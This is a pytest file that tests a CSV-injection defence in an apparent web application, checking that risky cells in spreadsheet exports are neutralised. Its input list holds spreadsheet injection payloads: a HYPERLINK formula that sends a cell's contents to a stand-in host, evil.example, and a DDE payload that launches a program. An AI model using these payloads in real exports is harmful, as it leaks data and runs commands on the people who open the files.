"""CSV exports cannot carry a formula into a spreadsheet (CSV injection)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest

from partners.security.csv import SafeCsvWriter, csv_response, safe_cell


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+44 7700 900123",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_made_text(dangerous):
    assert safe_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize(
    "value",
    ["Hopfield Primary School", "O'Brien", "a=b", "", "Jo + Sam", "user@example.org"],
)
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value",
    [
        -5,
        3.5,
        Decimal("-1.20"),
        True,
        datetime.date(2026, 1, 5),
        datetime.datetime(2026, 1, 5, 9, tzinfo=datetime.UTC),
    ],
)
def test_numbers_dates_and_booleans_are_values_not_formulas(value):
    assert safe_cell(value) == value


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


def test_the_writer_neutralises_every_cell_of_every_row():
    stream = io.StringIO()
    SafeCsvWriter(stream).writerows([["=1+1", "fine"], ["@x", -1]])

    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [["'=1+1", "fine"], ["'@x", "-1"]]


def test_the_download_streams_a_bom_the_header_and_safe_rows():
    response = csv_response(
        filename="people list.csv", header=["Name", "Note"], rows=iter([["Jo", "=cmd()"]])
    )

    body = b"".join(response.streaming_content).decode()
    assert body.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(body.lstrip("\ufeff")))) == [
        ["Name", "Note"],
        ["Jo", "'=cmd()"],
    ]
    assert response["Content-Type"] == "text/csv"
    assert response["Content-Disposition"] == 'attachment; filename="people-list.csv"'
    assert "no-store" in response["Cache-Control"]
